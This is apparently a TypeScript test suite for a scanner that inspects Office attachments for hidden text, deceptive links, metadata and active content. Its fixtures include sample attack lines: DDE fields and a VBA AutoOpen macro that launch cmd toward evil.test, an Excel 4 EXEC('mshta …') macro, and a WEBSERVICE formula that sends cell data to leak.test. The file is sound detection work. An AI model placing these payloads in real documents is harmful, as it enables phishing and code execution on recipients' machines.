import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { packagedFile, vbaModule, writeCompound } from '../../../testing/compound-writer.ts'
import {
  field,
  paragraph,
  relationshipsXml,
  writeDocx,
  writePptx,
  writeXlsx,
} from '../../../testing/office-writer.ts'
import { codes, openFile, targets } from '../../../testing/open-file.ts'

describe('a Word document', () => {
  it('gives its text in reading order, hidden and deleted text left out', async () => {
    const opened = await openFile(
      'minutes.docx',
      writeDocx({
        body:
          paragraph('First & foremost') +
          '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r><w:r><w:t>seen</w:t></w:r></w:p>' +
          '<w:p><w:del><w:r><w:delText>gone</w:delText></w:r></w:del><w:r><w:t>kept</w:t><w:tab/><w:t>here</w:t></w:r></w:p>' +
          '<mc:AlternateContent><mc:Choice><w:p><w:r><w:t>box</w:t></w:r></w:p></mc:Choice><mc:Fallback><w:p><w:r><w:t>box</w:t></w:r></w:p></mc:Fallback></mc:AlternateContent>',
      }),
    )
    assert.equal(opened.text, 'First & foremost\nseen\nkept\there\nbox')
    assert.equal(opened.complete, true)
    assert.deepEqual(opened.powers, [])
  })

  it('tells links with the text they stand under, and where text and target differ', async () => {
    const opened = await openFile(
      'offer.docx',
      writeDocx({
        body:
          '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>https://bank.</w:t></w:r><w:r><w:t>example/login</w:t></w:r></w:hyperlink></w:p>' +
          paragraph('Also see https://plain.example/page, please.'),
        relationships: [
          {
            id: 'rId7',
            type: 'hyperlink',
            target: `https://evil.test/in?for=${encodeURIComponent('dana.okafor@union.example')}`,
          },
        ],
      }),
    )
    const [link, plain] = opened.links
    assert.equal(link?.origin, 'office-relationship')
    assert.equal(link?.text, 'https://bank.example/login')
    assert.deepEqual(link?.place, { file: 'word/document.xml' })
    assert.deepEqual(link?.traits, ['recipient-in-url', 'text-host-differs'])
    assert.equal(plain?.origin, 'office-text')
    assert.equal(plain?.href, 'https://plain.example/page')
    assert.equal(opened.links.length, 2)
  })

  it('marks a link whose text is hidden', async () => {
    const opened = await openFile(
      'x.docx',
      writeDocx({
        body: '<w:p><w:hyperlink r:id="a"><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:hyperlink></w:p>',
        relationships: [{ id: 'a', type: 'hyperlink', target: 'https://hidden.test/' }],
      }),
    )
    assert.deepEqual(
      opened.links.map(({ href, visible }) => [href, visible]),
      [['https://hidden.test/', false]],
    )
  })

  for (const size of [1_000, 3]) {
    it(`reads field codes cut into runs of ${size}`, async () => {
      const opened = await openFile(
        'x.docx',
        writeDocx({
          body: `<w:p>${field(' HYPERLINK "https://evil.test/a" \\l "top" \\o "tip" ', 'Open', size)}</w:p><w:p>${field(
            'INCLUDEPICTURE "https://pixel.test/p.png" \\d \\* MERGEFORMAT',
            '',
            size,
          )}</w:p>`,
        }),
      )
      assert.deepEqual(
        opened.links.map(({ origin, href, text }) => [origin, href, text]),
        [
          ['office-field', 'https://evil.test/a#top', 'Open'],
          ['office-field', 'https://pixel.test/p.png', ''],
        ],
      )
      assert.deepEqual(opened.powers, ['remote-content'])
    })
  }

  it('sees DDE, also where a QUOTE field spells the word', async () => {
    const plain = await openFile(
      'x.docx',
      writeDocx({
        body: `<w:p>${field('DDEAUTO c:\\\\Windows\\\\cmd.exe "/k start https://evil.test/run"', '')}</w:p>`,
      }),
    )
    assert.deepEqual(plain.powers, ['auto-open', 'external-data'])
    assert.deepEqual(targets(plain), ['https://evil.test/run'])
    assert.equal(plain.links[0]?.visible, false)
    const spelled = [...'DDEAUTO'].map((c) => c.charCodeAt(0)).join(' ')
    const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    const hidden = await openFile(
      'x.docx',
      writeDocx({
        body: `<w:p>${begin}${begin}<w:r><w:instrText>QUOTE ${spelled}</w:instrText></w:r>${end}<w:r><w:instrText> cmd "/c calc"</w:instrText></w:r>${end}</w:p>`,
      }),
    )
    assert.deepEqual(hidden.powers, ['auto-open', 'external-data'])
  })

  it('tells a remote template, remote pictures and objects from local ones', async () => {
    const opened = await openFile(
      'x.docx',
      writeDocx({
        body: paragraph('x'),
        relationships: [
          { id: 'a', type: 'image', target: 'https://pixel.test/1.png' },
          { id: 'b', type: 'oleObject', target: '\\\\files.test\\share\\a.rtf' },
        ],
        parts: [
          {
            name: 'word/_rels/settings.xml.rels',
            content: relationshipsXml([
              { id: 't', type: 'attachedTemplate', target: 'https://evil.test/t.dotm' },
            ]),
          },
        ],
      }),
    )
    assert.deepEqual(targets(opened, 'office-template'), ['https://evil.test/t.dotm'])
    assert.deepEqual(targets(opened, 'office-relationship'), [
      'https://pixel.test/1.png',
      '\\\\files.test\\share\\a.rtf',
    ])
    assert.deepEqual(opened.powers, ['remote-content'])
    const local = await openFile(
      'x.docx',
      writeDocx({
        body: paragraph('x'),
        relationships: [{ id: 't', type: 'attachedTemplate', target: 'file:///C:\\Users\\mia\\Normal.dotm' }],
      }),
    )
    assert.deepEqual(local.powers, [])
    assert.deepEqual(targets(local, 'office-template'), [])
  })

  it('reads metadata, editing sessions, protection and people', async () => {
    const opened = await openFile(
      'x.docx',
      writeDocx({
        body: paragraph('x'),
        parts: [
          {
            name: 'docProps/core.xml',
            content:
              '<c:coreProperties xmlns:dc="d"><dc:title>Plan</dc:title><dc:creator>Mia Sand</dc:creator><cp:lastModifiedBy>Jo</cp:lastModifiedBy><dcterms:created xsi:type="dcterms:W3CDTF">2024-03-05T10:12:00Z</dcterms:created></c:coreProperties>',
          },
          {
            name: 'docProps/app.xml',
            content:
              '<Properties><Application>Microsoft Office Word</Application><Pages>3</Pages><Company>Union</Company><AppVersion>16.0000</AppVersion></Properties>',
          },
          {
            name: 'word/settings.xml',
            content:
              '<w:settings><w:documentProtection w:edit="readOnly"/><w:rsids><w:rsidRoot w:val="00AB12CD"/><w:rsid w:val="00ab12cd"/><w:rsid w:val="00EF0001"/></w:rsids></w:settings>',
          },
          {
            name: 'word/comments.xml',
            content:
              '<w:comments><w:comment w:author="Lee Fox"><w:p><w:r><w:t>Note</w:t></w:r></w:p></w:comment></w:comments>',
          },
        ],
      }),
    )
    assert.deepEqual(opened.metadata, {
      title: 'Plan',
      author: 'Mia Sand',
      lastModifiedBy: 'Jo',
      created: Date.UTC(2024, 2, 5, 10, 12),
      program: 'Microsoft Office Word 16.0000',
      pages: 3,
      company: 'Union',
      protection: 'readOnly',
      rsidRoot: '00AB12CD',
      rsids: ['00AB12CD', '00EF0001'],
      people: ['Lee Fox'],
    })
    assert.equal(opened.text, 'x\nNote')
  })

  it('opens a macro project and packed files, however deep', async () => {
    const vba = writeCompound([
      {
        path: 'VBA/Module1',
        content: vbaModule('Sub AutoOpen()\r\nx = Shell("cmd /c start https://evil.test/p")\r\nEnd Sub'),
      },
    ])
    const object = writeCompound([
      {
        path: '\u0001Ole10Native',
        content: packagedFile('run.js', 'C:\\Users\\kim\\run.js', Buffer.from('WScript.Echo(1)')),
      },
    ])
    const opened = await openFile(
      'x.docm',
      writeDocx({
        body: paragraph('x'),
        parts: [
          { name: 'word/vbaProject.bin', content: vba },
          { name: 'word/embeddings/oleObject1.bin', content: object },
        ],
      }),
    )
    assert.deepEqual(opened.powers, ['macro', 'script', 'launch', 'embedded-program', 'auto-open'])
    assert.deepEqual(targets(opened), ['https://evil.test/p'])
    assert.deepEqual(
      opened.files.map(({ path, active }) => [path, active]),
      [
        ['word/vbaProject.bin', true],
        ['word/embeddings/oleObject1.bin', true],
        ['word/embeddings/oleObject1.bin/run.js', true],
      ],
    )
  })

  it('is read without its list of files, and with a part cut short', async () => {
    const whole = writeDocx({ body: paragraph('still here https://evil.test/x') })
    const cut = await openFile('x.docx', whole.subarray(0, whole.lastIndexOf('PK\u0001\u0002') - 60))
    assert.equal(cut.text, 'still here https://evil.test/x')
    assert.deepEqual(targets(cut), ['https://evil.test/x'])
    assert.equal(cut.complete, false)
    assert.ok(codes(cut).includes('attachment.damaged'))
  })

  it('is read when its type cannot be told by its last megabyte', async () => {
    const hidden = writeDocx({ body: paragraph('https://evil.test/x') })
    const opened = await openFile('x.docx', Buffer.concat([hidden, Buffer.alloc(1_100_000)]))
    assert.equal(opened.mediaType, 'application/zip')
    assert.deepEqual(targets(opened), ['https://evil.test/x'])
    assert.equal(opened.text, 'https://evil.test/x')
  })

  it('says that it is encrypted', async () => {
    const opened = await openFile(
      'x.docx',
      writeCompound([
        { path: 'EncryptionInfo', content: Buffer.alloc(40, 1) },
        { path: 'EncryptedPackage', content: Buffer.alloc(900, 7) },
      ]),
    )
    assert.equal(opened.encrypted, true)
    assert.deepEqual(codes(opened), ['attachment.encrypted'])
  })
})

describe('a workbook', () => {
  it('gives cells in order, links under their cell text, and formulas that reach out', async () => {
    const opened = await openFile(
      'x.xlsx',
      writeXlsx({
        strings: ['Invoice', 'Click here'],
        sheets: [
          '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>42</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c>' +
            '<c r="B2" t="str"><f>HYPERLINK("https://formula."&amp;"test/x","Pay")</f><v>Pay</v></c><c r="C2"><f>WEBSERVICE("https://leak.test/?q="&amp;A1)</f><v>0</v></c></row></sheetData>' +
            '<hyperlinks><hyperlink ref="A2" r:id="h1"/></hyperlinks>',
        ],
        relationships: [{ id: 'h1', type: 'hyperlink', target: 'https://evil.test/cell' }],
      }),
    )
    assert.equal(opened.text, 'Invoice\t42\nClick here\tPay\t0')
    assert.deepEqual(
      opened.links.map(({ origin, href, text }) => [origin, href, text]),
      [
        ['office-field', 'https://formula.test/x', 'Pay'],
        ['office-field', 'https://leak.test/?q=', ''],
        ['office-relationship', 'https://evil.test/cell', 'Click here'],
      ],
    )
    assert.deepEqual(opened.powers, ['remote-content'])
  })

  it('does not tell the text of a hidden sheet, but its links', async () => {
    const opened = await openFile(
      'x.xlsx',
      writeXlsx({
        sheets: [
          '<sheetData><row><c t="inlineStr"><is><t>shown</t></is></c></row></sheetData>',
          '<sheetData><row><c t="inlineStr"><is><t>see https://hidden.test/</t></is></c></row></sheetData>',
        ],
        states: ['', 'veryHidden'],
      }),
    )
    assert.equal(opened.text, 'shown')
    assert.deepEqual(
      opened.links.map(({ href, visible }) => [href, visible]),
      [['https://hidden.test/', false]],
    )
  })

  it('sees Excel 4 macros, DDE and connections', async () => {
    const opened = await openFile(
      'x.xlsm',
      writeXlsx({
        sheets: ['<sheetData/>'],
        workbook:
          '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>',
        parts: [
          {
            name: 'xl/macrosheets/sheet1.xml',
            content:
              '<macrosheet><sheetData><row><c r="A1"><f>EXEC("mshta https://evil.test/x.hta")</f></c></row></sheetData></macrosheet>',
          },
          { name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' },
        ],
      }),
    )
    assert.deepEqual(opened.powers, ['macro', 'launch', 'auto-open'])
    const dde = await openFile(
      'x.xlsx',
      writeXlsx({ sheets: [`<sheetData><row><c r="A1"><f>cmd|'/c calc'!A0</f></c></row></sheetData>`] }),
    )
    assert.deepEqual(dde.powers, ['external-data'])
  })
})

describe('a presentation', () => {
  it('tells links of text and shapes, and what acts when the pointer passes', async () => {
    const opened = await openFile(
      'x.pptx',
      writePptx(
        '<p:sp><p:nvSpPr><p:cNvPr id="1"><a:hlinkHover r:id="b" action="ppaction://program"/></p:cNvPr></p:nvSpPr>' +
          '<p:txBody><a:p><a:r><a:rPr><a:hlinkClick r:id="a"/></a:rPr><a:t>Report</a:t></a:r></a:p></p:txBody></p:sp>',
        [
          { id: 'a', type: 'hyperlink', target: 'https://evil.test/slide' },
          { id: 'b', type: 'hyperlink', target: 'https://evil.test/hover' },
        ],
      ),
    )
    assert.equal(opened.text, 'Report')
    assert.deepEqual(
      opened.links.map(({ href, text }) => [href, text]),
      [
        ['https://evil.test/hover', ''],
        ['https://evil.test/slide', 'Report'],
      ],
    )
    assert.deepEqual(opened.powers, ['launch', 'auto-open'])
  })
})
